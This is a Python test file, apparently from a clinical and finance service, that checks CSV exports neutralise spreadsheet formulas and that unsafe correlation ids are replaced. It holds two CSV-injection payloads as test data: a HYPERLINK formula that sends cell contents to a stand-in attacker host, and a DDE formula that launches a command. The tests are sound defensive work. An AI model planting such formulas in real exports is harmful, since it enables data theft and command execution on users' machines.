"""Every CSV the product writes defuses spreadsheet formulas, and a correlation id a client
sends is kept only when it is a plain token."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from api.auth import mint_token
from api.cli.main import cli
from projections.audit.export import export_access_log
from projections.csv_cells import FORMULA_START, csv_text
from tests.api.dsl import PATIENT, Api

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EVIL_SUB = "=cmd|' /C calc'!A0"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _wait_for_audit(api: Api, who: str = "auditor") -> None:
    deadline = time.monotonic() + 10
    position = api.client.app.state.carepack.recorder.max_notification_id()
    while time.monotonic() < deadline:
        if api.call("GET", f"/audit/events?after={position}&limit=1", who).status_code == 200:
            return
        time.sleep(0.05)


@pytest.mark.parametrize(
    "given_id",
    [EVIL, "@SUM(1+1)", "has space", "x" * 129, "a/b", "x<y>", "a\tb", "semi;colon", "+1"],
)
def test_given_a_correlation_id_outside_the_charset_then_the_server_makes_its_own(
    sapi: Api, given_id: str
) -> None:
    answer = sapi.call("GET", "/packages", "nurse", None, 200, **{"X-Correlation-Id": given_id})
    made = answer.headers["x-correlation-id"]
    assert made != given_id and len(made) == 36  # a UUID


@pytest.mark.parametrize("given_id", ["req-42", "a:b.c_d-e", "x" * 128, "0"])
def test_given_a_plain_correlation_id_then_it_is_kept(sapi: Api, given_id: str) -> None:
    answer = sapi.call("GET", "/packages", "nurse", None, 200, **{"X-Correlation-Id": given_id})
    assert answer.headers["x-correlation-id"] == given_id


def test_given_a_formula_for_a_correlation_id_then_the_audit_trail_never_stores_it(
    sapi: Api,
) -> None:
    sapi.call("POST", "/packages", "nurse", {"code": 3}, 422, **{"X-Correlation-Id": EVIL})
    package = sapi.call("POST", "/packages", "nurse", None, 0, **{"X-Correlation-Id": EVIL})
    assert package.status_code in (400, 422)
    sapi.register_patient()
    _wait_for_audit(sapi)
    events = sapi.get("/audit/events?limit=200", "auditor")["items"]
    assert events and all(e["correlation_id"] != EVIL for e in events)


def test_given_a_formula_in_an_actor_then_the_audit_and_access_log_csv_defuse_it(
    sapi: Api,
) -> None:
    token = mint_token(sapi.settings, EVIL_SUB, ["nurse"], ["endocrinology"])
    headers = {"Authorization": f"Bearer {token}"}
    made = sapi.client.post("/api/v1/patients", json=PATIENT, headers=headers)
    assert made.status_code == 201, made.text
    sapi.client.get(f"/api/v1/patients/{made.json()['id']}", headers=headers)
    _wait_for_audit(sapi)

    exported = sapi.call("GET", "/audit/export?format=csv", "auditor").text
    actors = [row["actor_id"] for row in _rows(exported)]
    assert "'" + EVIL_SUB in actors and EVIL_SUB not in actors
    engine = sapi.client.app.state.read_engine
    access = _rows("".join(export_access_log(engine, "csv")))
    assert "'" + EVIL_SUB in [row["actor"] for row in access]
    assert all(not cell.startswith(FORMULA_START) for row in access for cell in row.values())


def test_given_formulas_in_a_settlement_file_then_the_reconciliation_csv_defuses_them(
    sapi: Api,
) -> None:
    refs = ["=1+2", "@SUM(A1:A9)", "+41", "-3", "MALL-1"]
    body = "provider_ref,kind,amount,currency,settled_at\n" + "".join(
        f'"{ref}",payment,1.00,CNY,2026-03-02\n' for ref in refs
    )
    headers = {**sapi.headers("finance"), "content-type": "text/csv"}
    made = sapi.client.post("/api/v1/finance/reconciliations", content=body, headers=headers)
    assert made.status_code == 201, made.text

    answer = sapi.call("GET", f"/finance/reconciliations/{made.json()['id']}?format=csv",
                       "finance")  # fmt: skip
    assert answer.headers["content-type"].startswith("text/csv")
    found = [row["provider_ref"] for row in _rows(answer.text)]
    assert found == ["'=1+2", "'@SUM(A1:A9)", "'+41", "'-3", "MALL-1"]
    assert {row["amount"] for row in _rows(answer.text)} == {"1.00"}


@given(st.lists(st.lists(st.one_of(st.text(), st.integers()), max_size=4), max_size=4))
def test_given_any_cells_then_no_text_cell_reads_back_as_a_formula(
    rows: list[list[str | int]],
) -> None:
    back = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert len(back) == len(rows)  # a CR or LF in a cell never starts a row of its own
    for written, read in zip(rows, back, strict=True):
        for cell, text in zip(written, read, strict=True):
            if isinstance(cell, int):
                assert text == str(cell)
            elif cell.startswith(FORMULA_START):
                assert text == "'" + cell
            else:
                assert text == cell


def test_given_the_cli_when_reconciling_as_csv_then_formulas_are_defused(tmp_path: Path) -> None:
    settlement = tmp_path / "settlement.csv"
    settlement.write_text("provider_ref,kind,amount,currency,settled_at\n"
                          "=1+2,refund,5.00,CNY,2026-01-01T00:00:00Z\n")  # fmt: skip
    env = {"CAREPACK_DATA_DIR": str(tmp_path / "var")}
    assert CliRunner().invoke(cli, ["db", "upgrade"], env=env).exit_code == 0
    result = CliRunner().invoke(cli, ["finance", "reconcile", str(settlement), "--format", "csv"],
                                env=env)  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    assert [(r["provider_ref"], r["status"]) for r in rows] == [("'=1+2", "unknown_to_us")]
